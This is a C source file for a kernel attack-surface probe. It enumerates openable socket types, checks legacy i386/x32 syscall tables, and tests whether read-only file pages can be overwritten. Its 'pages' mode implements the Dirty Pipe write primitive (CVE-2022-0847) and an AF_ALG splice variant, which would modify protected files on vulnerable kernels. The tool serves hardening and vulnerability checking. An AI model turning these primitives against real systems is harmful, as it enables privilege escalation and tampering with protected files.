/*
 * attack_doors - the ways into the kernel that most exploits took, and whether
 * they are open.
 *
 *	attack_doors sockets       every family, type and protocol, with and
 *	                           without bits that the kernel passes over:
 *	                           "FAMILY TYPE: PROTOCOL..." for what opens
 *	attack_doors few           a few that any kernel has, for root
 *	attack_doors tables        calls by the other two tables of numbers:
 *	                           "NAME open", "NAME refused", "NAME signal N"
 *	attack_doors pages FILE    writes into pages of a file that can only
 *	                           be read, in the ways of CVE-2022-0847 and
 *	                           CVE-2026-31431: "changed" or "kept"
 */
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_alg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define FAMILIES 64
#define TYPES 16
#define PROTOCOLS 300
#define X32 0x40000000

/* --- sockets ------------------------------------------------------------- */

/* The kernel takes three ints: what stands above them is nothing to it. */
static int opens(uint64_t family, uint64_t type, uint64_t protocol)
{
	int pair[2];
	long fd = syscall(SYS_socket, family, type, protocol);

	if (fd >= 0) {
		close((int)fd);
		return 1;
	}
	if (syscall(SYS_socketpair, family, type, protocol, pair) < 0)
		return 0;
	close(pair[0]);
	close(pair[1]);
	return 1;
}

static int opens_somehow(uint64_t family, uint64_t type, uint64_t protocol)
{
	const uint64_t high = UINT64_C(0xdeadbeef) << 32;

	return opens(family, type, protocol) ||
	       opens(family | high, type, protocol) ||
	       opens(family, type | high, protocol) ||
	       opens(family, type, protocol | high) ||
	       opens(family, type | SOCK_CLOEXEC | SOCK_NONBLOCK, protocol);
}

static void try_type(uint64_t family, uint64_t type)
{
	int found = 0;

	for (uint64_t p = 0; p < PROTOCOLS; p++) {
		if (!opens_somehow(family, type, p))
			continue;
		if (!found++)
			printf("%d %d:", (int)family, (int)type);
		printf(" %d", (int)p);
	}
	if (found)
		puts("");
}

static int sockets(void)
{
	for (uint64_t family = 0; family < FAMILIES; family++)
		for (uint64_t type = 0; type < TYPES; type++)
			try_type(family, type);
	puts("tried");
	return 0;
}

static int few(void)
{
	static const struct {
		const char *name;
		int family, type, protocol;
	} list[] = {
		{ "raw", AF_INET, SOCK_RAW, 1 },
		{ "packet", AF_PACKET, SOCK_RAW, 0 },
		{ "generic", AF_NETLINK, SOCK_RAW, 16 },
	};

	for (size_t i = 0; i < sizeof(list) / sizeof(*list); i++)
		if (opens(list[i].family, list[i].type, list[i].protocol))
			puts(list[i].name);
	return 0;
}

/* --- tables of numbers ---------------------------------------------------- */

#ifdef __x86_64__
static long i386(long number, long a, long b)
{
	long rc;

	__asm__ volatile("int $0x80" : "=a"(rc) : "a"(number), "b"(a), "c"(b)
			 : "memory", "r8", "r9", "r10", "r11");
	return rc;
}

static long i386_getpid(void) { return i386(20, 0, 0); }
static long i386_socketcall(void) { return i386(102, 1, 0); }
static long i386_mount(void) { return i386(21, 0, 0); }
static long x32_getpid(void) { return syscall(SYS_getpid | X32); }
static long x32_ptrace(void) { return syscall(521 | X32, 0, 0, 0, 0); }

static void try_table(const char *name, long (*call)(void))
{
	int status;
	pid_t pid = fork();

	if (pid == 0)
		_exit(call() == -ENOSYS || errno == ENOSYS);
	if (pid < 0 || waitpid(pid, &status, 0) != pid)
		err(1, "fork");
	if (WIFSIGNALED(status))
		printf("%s signal %d\n", name, WTERMSIG(status));
	else
		printf("%s %s\n", name, status ? "refused" : "open");
	fflush(stdout);
}

static int tables(void)
{
	try_table("i386-getpid", i386_getpid);
	try_table("i386-socketcall", i386_socketcall);
	try_table("i386-mount", i386_mount);
	try_table("x32-getpid", x32_getpid);
	try_table("x32-ptrace", x32_ptrace);
	return 0;
}
#else
static int tables(void)
{
	return 0;
}
#endif

/* --- pages ---------------------------------------------------------------- */

static void read_start(const char *path, char start[64])
{
	int fd = open(path, O_RDONLY);

	if (fd < 0 || read(fd, start, 64) != 64)
		err(1, "%s", path);
	close(fd);
}

/* A pipe whose buffers were full once may be merged into; one that holds a page
 * of the file was, before 5.16.11. */
static void through_pipe(const char *path)
{
	char page[4096] = { 0 };
	off64_t at = 0;
	int fd = open(path, O_RDONLY), ends[2];

	if (pipe2(ends, O_NONBLOCK) < 0)
		return;
	while (write(ends[1], page, sizeof(page)) > 0)
		;
	while (read(ends[0], page, sizeof(page)) > 0)
		;
	if (splice(fd, &at, ends[1], NULL, 1, 0) == 1)
		(void)!write(ends[1], "canary", 6);
}

/* A cipher that works in place on the pages that it was spliced. */
static void through_cipher(const char *path)
{
	struct sockaddr_alg addr = {
		.salg_family = AF_ALG, .salg_type = "aead",
		.salg_name = "authencesn(hmac(sha256),cbc(aes))",
	};
	int fd = open(path, O_RDONLY), ends[2], op;
	int s = socket(AF_ALG, SOCK_SEQPACKET, 0);
	char out[256];

	if (s < 0 || bind(s, (struct sockaddr *)&addr, sizeof(addr)) < 0 ||
	    pipe(ends) < 0)
		return;
	op = accept(s, NULL, NULL);
	if (splice(fd, NULL, ends[1], NULL, 64, 0) > 0 &&
	    splice(ends[0], NULL, op, NULL, 64, 0) > 0)
		(void)!read(op, out, sizeof(out));
}

static int pages(const char *path)
{
	char before[64], after[64];

	read_start(path, before);
	through_pipe(path);
	through_cipher(path);
	read_start(path, after);
	puts(memcmp(before, after, sizeof(before)) ? "changed" : "kept");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "pages"))
		return pages(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "sockets"))
		return sockets();
	if (argc == 2 && !strcmp(argv[1], "few"))
		return few();
	if (argc == 2 && !strcmp(argv[1], "tables"))
		return tables();
	errx(2, "usage: attack_doors sockets|few|tables|pages FILE");
}
